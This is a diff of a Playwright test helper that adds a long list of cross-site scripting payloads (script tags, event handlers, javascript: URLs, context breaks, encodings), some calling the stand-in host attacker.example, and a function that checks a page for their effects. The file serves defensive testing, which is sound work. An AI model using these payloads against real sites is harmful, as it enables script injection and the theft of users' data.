@@ -1,6 +1,6 @@
 import { expect, type Page } from '@playwright/test';
 
-/** What somebody hostile, or a broken link, puts into a URL. None of them may do anything but be shown as text. */
+/** What an attacker or a broken link puts into a URL. The site may only show it as text. */
 export const ATTACKS = [
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
@@ -26,10 +26,63 @@ export const ATTACKS = [
   '%3Cscript%3E',
 ];
 
-/** Longer than any place or id, with characters of two halves that a cut at any length would meet. */
+/** Payloads of XSS cheat sheets: tags, handlers, schemes, context breaks, encodings. */
+export const PAYLOADS = [
+  ...ATTACKS,
+  '<svg/onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
+  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
+  '<math href="javascript:alert(1)">x</math>',
+  '<details open ontoggle=alert(1)>',
+  '<video><source onerror=alert(1)>',
+  '<audio src=x onerror=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<select autofocus onfocus=alert(1)>',
+  '<textarea autofocus onfocus=alert(1)>',
+  '<marquee onstart=alert(1)>',
+  '<body onpageshow=alert(1)>',
+  '<style>@import "https://attacker.example/x.css"</style>',
+  '<style onload=alert(1)></style>',
+  '<link rel=stylesheet href="https://attacker.example/x.css">',
+  '<meta http-equiv=refresh content="0;url=https://attacker.example/">',
+  '<object data="javascript:alert(1)">',
+  '<embed src="javascript:alert(1)">',
+  '<form action="https://attacker.example/"><button>press</button></form>',
+  '<button formaction="javascript:alert(1)">press</button>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<textarea></textarea><img src=x onerror=alert(1)>',
+  '<xmp></xmp><img src=x onerror=alert(1)>',
+  '<img src=x:x onerror=alert`1`>',
+  '<img/src=x/onerror=alert(1)//',
+  '<IMG SRC=x OnErRoR=alert(1)>',
+  '<img src="x" alt="``onerror=alert(1)">',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script/x>alert(1)</script>',
+  '<script>alert(1)//',
+  '<<script>alert(1);//<</script>',
+  '" onmouseover="alert(1)" x="',
+  "' onfocus='alert(1)' autofocus='",
+  '" style="background:url(https://attacker.example/x)" x="',
+  '`${alert(1)}`',
+  '");alert(1);//',
+  "';alert(1)//\\';alert(1)//",
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
+  ']]><script>alert(1)</script>',
+  '--><script>alert(1)</script>',
+  '*/alert(1)/*',
+  'data:text/html,<script>alert(1)</script>',
+  'vbscript:msgbox(1)',
+  'java\tscript:alert(1)',
+];
+
+/** Longer than any place or id. A cut at any length would split a surrogate pair in one of them. */
 export const LONG = ['long '.repeat(60), `even${'🏠'.repeat(110)}`, `odd${'🏠'.repeat(110)}`];
 
-/** Watches for what an attack that works would do. Call it before the page is opened; the answer says it did not. */
+/** Watches a page for the effects of an attack. Call it before the page is opened. @returns Asserts that there were none. */
 export function watchForHarm(page: Page): () => Promise<void> {
   const harm: string[] = [];
   page.on('dialog', (dialog) => {
@@ -42,7 +95,7 @@ export function watchForHarm(page: Page): () => Promise<void> {
   });
   return async () => {
     const foreign = await page.evaluate(() => ({
-      // One script of the site's own stands in the document itself: it sets the look before the first paint.
+      // The site has one inline script: it sets the theme before the first paint.
       inlineScripts: [...document.scripts].filter(({ src, type }) => src === '' && !type.endsWith('json'))
         .length,
       withoutIntegrity: [...document.scripts].filter(({ src, integrity }) => src !== '' && integrity === '')
